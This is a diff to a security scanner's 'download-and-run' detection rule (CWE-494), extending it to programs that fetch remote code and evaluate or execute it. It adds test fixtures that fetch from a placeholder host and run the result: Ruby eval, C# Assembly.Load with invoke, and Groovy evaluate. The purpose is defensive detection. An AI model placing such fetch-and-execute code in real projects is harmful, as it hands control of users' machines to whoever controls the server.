@@ -1,5 +1,6 @@
 import { defineRule } from '../../rule.ts';
-import { commandHits } from './commandHits.ts';
+import { commandHits, downloadWeight } from './commandHits.ts';
+import { otherUseHits } from './otherUseHits.ts';
 
 export const downloadAndRun = defineRule({
   id: 'download-and-run',
@@ -11,9 +12,25 @@ export const downloadAndRun = defineRule({
   cwe: 'CWE-494',
   why: 'Whoever controls the server, now or later, decides what runs on the machine. Nobody can tell afterwards what it was.',
   remedy: 'Download a fixed version, verify its hash or signature, then run it.',
-  check: (facts) => commandHits(facts, { 'runs-download': undefined }),
+  *check(facts) {
+    yield* commandHits(facts, { 'runs-download': undefined });
+    // A program that evaluates or starts what it fetches does what only a shell's pipe looks worse for.
+    yield* otherUseHits(facts, ['download'], ['evaluates', 'runs'], ({ use, first, to, starter }) =>
+      use === 'runs' && !first ? undefined : downloadWeight(to, starter === 'program' ? 'build' : starter, false),
+    );
+  },
   examples: {
     bad: [
+      { files: { 'lib/a.rb': "code = URI.open('https://load.dev/a').read\neval(code)\n" } },
+      {
+        files: {
+          'A.cs':
+            'class A {\n  static void Main() {\n    var b = new WebClient().DownloadData("https://load.dev/a");\n    Assembly.Load(b).EntryPoint.Invoke(null, null);\n  }\n}\n',
+        },
+      },
+      {
+        files: { 'build.gradle': "def text = new URL('https://load.dev/a').text\nnew GroovyShell().evaluate(text)\n" },
+      },
       {
         files: {
           '.vscode/tasks.json':
@@ -30,6 +47,7 @@ export const downloadAndRun = defineRule({
       },
     ],
     good: [
+      { files: { 'a.rb': "text = URI.open('https://list.dev/names').read\nputs text\neval('1 + 1')\n" } },
       {
         files: {
           'setup.sh': 'curl -fsSLo tool.sh https://get.tool.dev/1.2.3.sh\nsha256sum -c tool.sha256\nsh tool.sh\n',
